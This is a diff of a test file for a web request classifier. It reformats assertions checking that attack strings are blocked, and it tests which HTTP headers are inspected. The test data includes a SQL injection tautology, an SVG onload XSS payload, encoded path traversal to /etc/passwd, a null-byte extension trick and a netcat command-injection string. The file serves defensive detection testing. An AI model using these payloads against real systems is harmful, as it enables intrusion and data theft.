@@ -81,9 +81,21 @@ describe("the rule set", () => {
   it("names the rule that matched", () => {
     expect(classifyValue("' OR 1=1 --")).toEqual({ blocked: true, rule: "sqli-quote-tautology", family: "sqli" });
     expect(classifyValue("<svg/onload=alert(1)>")).toMatchObject({ blocked: true, family: "xss" });
-    expect(classifyValue("..%2f..%2fetc%2fpasswd")).toEqual({ blocked: true, rule: "traversal-dot-dot", family: "traversal" });
-    expect(classifyValue("| nc 10.0.0.1 4444")).toEqual({ blocked: true, rule: "cmdi-separator-command", family: "cmdi" });
-    expect(classifyValue("report.pdf%00.php")).toEqual({ blocked: true, rule: "traversal-null-byte", family: "traversal" });
+    expect(classifyValue("..%2f..%2fetc%2fpasswd")).toEqual({
+      blocked: true,
+      rule: "traversal-dot-dot",
+      family: "traversal",
+    });
+    expect(classifyValue("| nc 10.0.0.1 4444")).toEqual({
+      blocked: true,
+      rule: "cmdi-separator-command",
+      family: "cmdi",
+    });
+    expect(classifyValue("report.pdf%00.php")).toEqual({
+      blocked: true,
+      rule: "traversal-null-byte",
+      family: "traversal",
+    });
   });
 
   it("tells a quoted word in prose from an injected quote", () => {
@@ -126,8 +138,19 @@ describe("the rule set", () => {
 
 describe("which headers are read", () => {
   it("reads User-Agent, Referer, Cookie and every X- header, and nothing structured", () => {
-    for (const name of ["User-Agent", "referer", "cookie", "X-Forwarded-For", "x-request-id", "X-Anything"]) expect(isInspectedHeader(name)).toBe(true);
-    for (const name of ["accept", "accept-language", "content-type", "content-length", "host", "authorization", "sec-fetch-mode", "if-none-match", "origin"]) {
+    for (const name of ["User-Agent", "referer", "cookie", "X-Forwarded-For", "x-request-id", "X-Anything"])
+      expect(isInspectedHeader(name)).toBe(true);
+    for (const name of [
+      "accept",
+      "accept-language",
+      "content-type",
+      "content-length",
+      "host",
+      "authorization",
+      "sec-fetch-mode",
+      "if-none-match",
+      "origin",
+    ]) {
       expect(isInspectedHeader(name)).toBe(false);
     }
   });
